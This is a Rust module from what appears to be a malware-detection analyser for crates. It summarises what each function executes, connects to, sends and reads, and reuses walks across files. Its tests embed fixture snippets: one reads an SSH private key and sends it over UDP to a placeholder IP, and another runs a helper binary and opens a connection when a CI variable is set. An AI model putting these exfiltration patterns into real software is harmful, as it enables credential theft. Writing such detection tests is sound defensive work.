//! Crate-wide knowledge for the walk: constants and statics, and what each function does (its
//! summary, for callers in other files). Every file is walked once: the walk that summarises a
//! file's functions also records its facts, and those facts are kept when the function
//! summaries the walk looked up say the same once the whole crate is summarised; otherwise the
//! file is walked again with the final summaries (what a second pass over every file did).

use super::values::Val;
use super::visit::Walker;
use super::{Fact, Kind, Source};
use std::collections::{HashMap, HashSet};
use syn::visit::Visit;

/// What one function does, for its callers.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct FnInfo {
    /// What it returns (`Param(i)`: its argument `i` passed through).
    pub returns: Val,
    /// It runs the program given as its argument `i`.
    /// (`(i, Some(k))`: element `k` of it, `argv[0]`).
    pub exec_param: Option<(usize, Option<usize>)>,
    /// It reads the variable named by its argument `i`.
    pub env_param: Option<(usize, Option<usize>)>,
    /// It runs programs, uses the network, or downloads and runs.
    pub execs: bool,
    pub network: bool,
    /// It sends to a destination written in the code, or through raw sockets.
    pub sends: bool,
    /// Local names of the paths it wrote (this function's own walk only).
    pub written: Vec<String>,
    /// Crate functions it calls (by name).
    pub calls: Vec<String>,
    /// Secrets and identity it reads (itself or through its callees): kind and subject.
    pub reads: Vec<(Kind, String)>,
}

/// What a function does, as its callers see it: runs programs, uses the network, sends to a
/// fixed destination, reads.
type Effects = (bool, bool, bool, Vec<(Kind, String)>);

/// Crate-wide knowledge: constants and statics, and function summaries by name. The summaries
/// are read only through [`Walker::crate_fn`], which records the names a walk looked up.
#[derive(Default)]
pub struct CrateInfo {
    pub consts: HashMap<String, Val>,
    fns: HashMap<String, FnInfo>,
}

impl CrateInfo {
    /// The constants and statics of `files` (their outlines): evaluated twice, so that one
    /// may name another.
    fn with_consts(files: &[(&Source<'_>, &syn::File)], outlines: &[Outline<'_>]) -> CrateInfo {
        let mut info = CrateInfo::default();
        for _ in 0..2 {
            for ((s, _), outline) in files.iter().zip(outlines) {
                let text = s.text.unwrap_or("");
                let mut w = Walker::new(s, text, &[], &info, None);
                let values: Vec<(String, Val)> = outline
                    .consts
                    .iter()
                    .map(|(n, e)| (n.clone(), w.eval(e)))
                    .collect();
                drop(w);
                info.consts.extend(values);
            }
        }
        info
    }

    /// Adds the summaries of one file's functions (same names merged).
    fn add(&mut self, summaries: Vec<(String, FnInfo)>) {
        for (name, s) in summaries {
            self.fns
                .entry(name)
                .and_modify(|old| {
                    old.execs |= s.execs;
                    old.network |= s.network;
                    old.sends |= s.sends;
                    if old.returns != s.returns {
                        old.returns = Val::Unknown;
                    }
                    old.calls.extend(s.calls.iter().cloned());
                    merge_reads(&mut old.reads, &s.reads);
                })
                .or_insert(s);
        }
    }

    /// Effects flow from callees to callers.
    fn propagate(&mut self) {
        for _ in 0..4 {
            let snapshot: HashMap<String, Effects> = self
                .fns
                .iter()
                .map(|(n, f)| {
                    let effects = (f.execs, f.network, f.sends, f.reads.clone());
                    (n.clone(), effects)
                })
                .collect();
            for f in self.fns.values_mut() {
                for c in &f.calls {
                    if let Some((e, n, out, r)) = snapshot.get(c) {
                        f.execs |= e;
                        f.network |= n;
                        f.sends |= out;
                        merge_reads(&mut f.reads, r);
                    }
                }
            }
        }
    }

    /// Functions that do something or return a value, and constants with a value (not a bare
    /// integer): a file that names one may have facts through it.
    pub fn active_names(&self) -> HashSet<String> {
        let fns = self.fns.iter().filter(|(_, f)| {
            f.execs
                || f.network
                || f.sends
                || !f.reads.is_empty()
                || f.exec_param.is_some()
                || f.env_param.is_some()
                || !f.written.is_empty()
                || !(f.returns == Val::Unknown || f.returns.param().is_some())
        });
        // `const _` cannot be named.
        let consts = self.consts.iter().filter(|(n, v)| {
            *n != "_"
                && !matches!(v, Val::Unknown)
                && !matches!(v, Val::Str(s) if s.starts_with('#'))
        });
        fns.map(|(n, _)| n.clone())
            .chain(consts.map(|(n, _)| n.clone()))
            .collect()
    }

    /// What a lookup of `name` gives the walk exactly: whether there is a summary, and the
    /// summary without its list of callees (the walk never reads that).
    fn looked_up(&self, name: &str) -> Option<FnInfo> {
        self.fns.get(name).map(|f| FnInfo {
            calls: Vec::new(),
            ..f.clone()
        })
    }

    /// What a lookup of `name` tells the walk: the summary without its list of callees (only
    /// propagation reads that), and no summary the same as one that says nothing (a call of a
    /// function that does nothing known adds no fact and has no known value).
    fn seen(&self, name: &str) -> FnInfo {
        self.looked_up(name).unwrap_or_default()
    }

    /// [`CrateInfo::looked_up`] of each of `probed`.
    fn lookups(&self, probed: Probed) -> Vec<(String, Option<FnInfo>)> {
        probed
            .into_iter()
            .map(|n| {
                let v = self.looked_up(&n);
                (n, v)
            })
            .collect()
    }
}

impl<'a> Walker<'a> {
    /// The summary of the crate function `name`, as far as the files walked so far tell. Every
    /// lookup of a summary goes through here: the names are recorded, so that facts found with
    /// a partial crate summary are kept only while those names still say the same at the end.
    pub fn crate_fn(&mut self, name: &str) -> Option<&'a FnInfo> {
        if !self.probed.contains(name) {
            self.probed.insert(name.to_string());
        }
        self.info.fns.get(name)
    }
}

/// What the walk of each file found in an earlier analysis of the same files (before items
/// were pulled into some of them). A file walks the same way again when its syntax tree, the
/// crate's constants and every summary it looked up are what they were: its facts and
/// summaries are taken from here instead.
#[derive(Default)]
pub struct Memo {
    consts: HashMap<String, Val>,
    /// The constants were the same in the last walk as in the one before.
    consts_same: bool,
    files: HashMap<String, Walked>,
    /// Files walked again with the final crate knowledge (their single walk's facts did not
    /// hold): what that walk found.
    finals: HashMap<String, Walked>,
}

impl Memo {
    /// The facts of the walk of `s` with the final knowledge `info`, when an earlier one
    /// had the same tree, constants and lookups.
    pub fn final_walk(&self, s: &Source<'_>, info: &CrateInfo) -> Option<Vec<Fact>> {
        let w = self.finals.get(s.path)?;
        (self.consts_same && w.holds(s, info)).then(|| w.facts.clone())
    }

    /// Records the walk of `s` with the final knowledge `info`.
    pub fn keep_final_walk(
        &mut self,
        s: &Source<'_>,
        info: &CrateInfo,
        probed: Probed,
        facts: &[Fact],
    ) {
        self.finals.insert(
            s.path.to_string(),
            Walked {
                generation: s.generation,
                facts: facts.to_vec(),
                summaries: Vec::new(),
                looked_up: info.lookups(probed),
            },
        );
    }
}

/// One file's walk: at which generation of its tree, what it found and what it looked up
/// (exactly, whether there was a summary at all included: a call of a known function is
/// recorded even when it does nothing).
struct Walked {
    generation: u32,
    facts: Vec<Fact>,
    summaries: Vec<(String, FnInfo)>,
    looked_up: Vec<(String, Option<FnInfo>)>,
}

impl Walked {
    /// Walking `s` with `info` again would do the same: the same tree, and every lookup
    /// answered as it was (the crate's constants are compared apart).
    fn holds(&self, s: &Source<'_>, info: &CrateInfo) -> bool {
        self.generation == s.generation
            && self.looked_up.iter().all(|(n, v)| info.looked_up(n) == *v)
    }

    /// The lookups as the single walk compares them ([`CrateInfo::seen`]).
    fn seen(&self) -> Vec<(String, FnInfo)> {
        let seen = |(n, v): &(String, Option<FnInfo>)| (n.clone(), v.clone().unwrap_or_default());
        self.looked_up.iter().map(seen).collect()
    }
}

/// Per file of `files` (in order): its facts, when the single walk's facts hold; `None` when
/// the file must be walked again with the returned (final) crate knowledge, or was not walked
/// because `out_of_time` said so. With `reuse` off, every file is walked again (the two-pass
/// analysis, for tests).
pub fn walk(
    files: &[(&Source<'_>, &syn::File)],
    shipped: &[String],
    reuse: bool,
    out_of_time: &dyn Fn() -> bool,
    memo: &mut Memo,
) -> (CrateInfo, Vec<Option<Vec<Fact>>>) {
    let mut outlines: Vec<Outline<'_>> = files
        .iter()
        .map(|(s, f)| Outline::of(f, s.tests_live))
        .collect();
    let mut info = CrateInfo::with_consts(files, &outlines);
    let consts_same = memo.consts == info.consts;
    if !consts_same {
        memo.consts = info.consts.clone();
    }
    memo.consts_same = consts_same;
    let mut walked = Vec::with_capacity(files.len());
    for ((s, f), outline) in files.iter().zip(&mut outlines) {
        if out_of_time() {
            break;
        }
        if let Some(w) = memo.files.get(s.path)
            && consts_same
            && w.holds(s, &info)
        {
            info.add(w.summaries.clone());
            walked.push((w.facts.clone(), w.seen()));
            continue;
        }
        let text = s.text.unwrap_or("");
        let mut facts = Vec::new();
        let mut w = Walker::new(s, text, shipped, &info, Some(&mut facts));
        w.aliases = std::mem::take(&mut outline.uses);
        w.aliases_given = true;
        w.visit_file(f);
        let summaries = std::mem::take(&mut w.summaries);
        let probed = std::mem::take(&mut w.probed);
        drop(w);
        // What the names looked up said during this walk (the summaries of earlier files).
        let this = Walked {
            generation: s.generation,
            facts,
            summaries,
            looked_up: info.lookups(probed),
        };
        info.add(this.summaries.clone());
        walked.push((this.facts.clone(), this.seen()));
        memo.files.insert(s.path.to_string(), this);
    }
    info.propagate();
    let facts = walked
        .into_iter()
        .map(|(facts, seen)| {
            let holds = reuse && seen.iter().all(|(n, v)| info.seen(n) == *v);
            holds.then_some(facts)
        })
        .chain(std::iter::repeat_with(|| None))
        .take(files.len())
        .collect();
    (info, facts)
}

/// What one traversal of a file finds before it is walked: its constants and statics (not
/// those inside another one's value) and its `use` declarations (anywhere).
#[derive(Default)]
pub struct Outline<'ast> {
    pub consts: Vec<(String, &'ast syn::Expr)>,
    pub uses: HashMap<String, String>,
    /// Inside the value of a constant or static.
    in_const: usize,
    /// Test-only code is read too (see `Source::tests_live`).
    tests_live: bool,
}

impl<'ast> Outline<'ast> {
    pub fn of(f: &'ast syn::File, tests_live: bool) -> Outline<'ast> {
        let mut o = Outline {
            tests_live,
            ..Outline::default()
        };
        o.visit_file(f);
        o
    }

    fn constant(&mut self, name: &syn::Ident, value: &'ast syn::Expr) {
        if self.in_const == 0 {
            self.consts
                .push((syn::ext::IdentExt::unraw(name).to_string(), value));
        }
    }
}

impl<'ast> Visit<'ast> for Outline<'ast> {
    // Test-only code is not read: its constants and `use`s say nothing of the rest.
    fn visit_item(&mut self, i: &'ast syn::Item) {
        if self.tests_live || !super::visit::is_test(super::visit::item_attrs(i)) {
            syn::visit::visit_item(self, i);
        }
    }
    fn visit_impl_item(&mut self, i: &'ast syn::ImplItem) {
        if self.tests_live || !super::visit::is_test(super::visit::impl_item_attrs(i)) {
            syn::visit::visit_impl_item(self, i);
        }
    }
    fn visit_item_use(&mut self, u: &'ast syn::ItemUse) {
        super::visit::collect_use(&u.tree, &mut Vec::new(), &mut self.uses);
    }
    fn visit_item_const(&mut self, c: &'ast syn::ItemConst) {
        self.constant(&c.ident, &c.expr);
        self.in_const += 1;
        syn::visit::visit_item_const(self, c);
        self.in_const -= 1;
    }
    fn visit_item_static(&mut self, s: &'ast syn::ItemStatic) {
        self.constant(&s.ident, &s.expr);
        self.in_const += 1;
        syn::visit::visit_item_static(self, s);
        self.in_const -= 1;
    }
    fn visit_impl_item_const(&mut self, c: &'ast syn::ImplItemConst) {
        self.constant(&c.ident, &c.expr);
        self.in_const += 1;
        syn::visit::visit_impl_item_const(self, c);
        self.in_const -= 1;
    }
}

/// Adds `more` to `reads`, without repeats, at most 16.
pub(super) fn merge_reads(reads: &mut Vec<(Kind, String)>, more: &[(Kind, String)]) {
    for r in more {
        if reads.len() < 16 && !reads.contains(r) {
            reads.push(r.clone());
        }
    }
}

/// The names of crate functions a walk looked up.
pub type Probed = HashSet<String>;

#[cfg(test)]
mod tests {
    use super::super::{Behaviour, Budget, Role, analyze_with};
    use super::*;

    /// Behaviour of `files` (path, code), walked once (`reuse`) or twice.
    fn both(files: &[(&str, &str)]) -> (Behaviour, Behaviour) {
        let parsed: Vec<syn::File> = files
            .iter()
            .map(|(p, c)| syn::parse_file(c).unwrap_or_else(|e| panic!("{p}: {e}")))
            .collect();
        let sources: Vec<Source<'_>> = files
            .iter()
            .zip(&parsed)
            .map(|((path, code), f)| Source {
                path,
                role: match *path {
                    "build.rs" => Role::BuildScript,
                    "src/main.rs" => Role::Binary,
                    _ => Role::Library,
                },
                text: Some(code),
                parsed: Some(f),
                tests_live: false,
                generation: 0,
            })
            .collect();
        let shipped = ["bin/helper".to_string()];
        let run = |reuse: bool| {
            analyze_with(
                &sources,
                &shipped,
                Budget::default(),
                reuse,
                &mut Memo::default(),
            )
            .0
        };
        (run(true), run(false))
    }

    const GATED_CALLER: &str =
        "fn main() { if std::env::var(\"GITLAB_CI\").is_ok() { run(prog()); fetch(); } }\n";
    const HELPERS: &str = "fn run(p: &str) { std::process::Command::new(p).spawn(); }\nfn prog() -> &'static str { \"bin/helper\" }\nfn fetch() { let s = std::net::TcpStream::connect(\"203.0.113.9:80\"); }\n";

    #[test]
    fn one_walk_finds_what_two_walks_find() {
        // Helpers after their callers (in the same file or a later one), before them, through
        // methods, constants from another file, and a file that needs no summary at all.
        let cases: Vec<Vec<(&str, &str)>> = vec![
            vec![("src/main.rs", GATED_CALLER), ("src/helpers.rs", HELPERS)],
            vec![("src/helpers.rs", HELPERS), ("src/main.rs", GATED_CALLER)],
            vec![("src/lib.rs", &*format!("{GATED_CALLER}{HELPERS}").leak())],
            vec![
                (
                    "src/a.rs",
                    "struct S; impl S { fn go(&self) { let k = std::fs::read(\"/home/u/.ssh/id_rsa\"); self.send(&k); } }\n",
                ),
                (
                    "src/b.rs",
                    "impl S { fn send(&self, b: &[u8]) { let s = std::net::UdpSocket::bind(ADDR); } }\nconst ADDR: &str = \"203.0.113.9:53\";\n",
                ),
                ("src/c.rs", "pub fn quiet() -> u32 { 1 + 1 }\n"),
            ],
        ];
        for files in cases {
            let (once, twice) = both(&files);
            assert!(!twice.facts.is_empty(), "{files:?}");
            assert_eq!(once, twice, "{files:?}");
        }
    }

    #[test]
    fn a_file_is_walked_again_only_when_a_summary_it_used_changed() {
        let files = [
            ("src/main.rs", GATED_CALLER),
            ("src/helpers.rs", HELPERS),
            ("src/quiet.rs", "fn quiet() { let v = vec![1]; v.len(); }\n"),
        ];
        let parsed: Vec<syn::File> = files
            .iter()
            .map(|(_, c)| syn::parse_file(c).unwrap())
            .collect();
        let sources: Vec<Source<'_>> = files
            .iter()
            .zip(&parsed)
            .map(|((path, code), f)| Source {
                path,
                role: Role::Library,
                text: Some(code),
                parsed: Some(f),
                tests_live: false,
                generation: 0,
            })
            .collect();
        let pairs: Vec<(&Source<'_>, &syn::File)> = sources.iter().zip(&parsed).collect();
        let mut memo = Memo::default();
        let (_, facts) = walk(&pairs, &[], true, &|| false, &mut memo);
        let kept: Vec<bool> = facts.iter().map(Option::is_some).collect();
        // main.rs called run, prog and fetch before they were summarised.
        assert_eq!(kept, [false, true, true]);
        // Walked again with what the first walk found: the same answer, from the memo.
        assert_eq!(memo.files.len(), 3);
        let (_, again) = walk(&pairs, &[], true, &|| false, &mut memo);
        assert_eq!(format!("{again:?}"), format!("{facts:?}"));
        let (_, facts) = walk(&pairs, &[], false, &|| false, &mut Memo::default());
        assert!(facts.iter().all(Option::is_none));
    }

    #[test]
    fn nesting_is_measured_across_blocks_and_never_below_zero() {
        let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
        assert!(super::super::too_deep(&deep(201)));
        assert!(!super::super::too_deep(&deep(200)));
        // Closing brackets first do not make depth negative; the deep part spans blocks.
        let text = format!("{}{}{}", ")".repeat(5000), " ".repeat(4090), deep(204));
        assert!(super::super::too_deep(&text));
        assert!(!super::super::too_deep(&"(x)".repeat(10_000)));
    }

    #[test]
    fn the_malware_fixtures_read_the_same_in_one_walk() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/malware");
        let mut dirs: Vec<std::path::PathBuf> = std::fs::read_dir(&root)
            .unwrap()
            .chain(std::fs::read_dir(root.join("controls")).unwrap())
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.join("Cargo.toml").exists())
            .collect();
        dirs.sort();
        assert!(dirs.len() >= 20, "{dirs:?}");
        for dir in dirs {
            let archive = crate::sources::crate_dir::read_dir(&dir, Default::default());
            let rust: Vec<(String, String)> = archive
                .files
                .iter()
                .filter(|f| f.path.ends_with(".rs"))
                .filter_map(|f| Some((f.path.clone(), f.text.clone()?)))
                .collect();
            let files: Vec<(&str, &str)> =
                rust.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
            let (once, twice) = both(&files);
            assert_eq!(once, twice, "{}", dir.display());
        }
    }
}
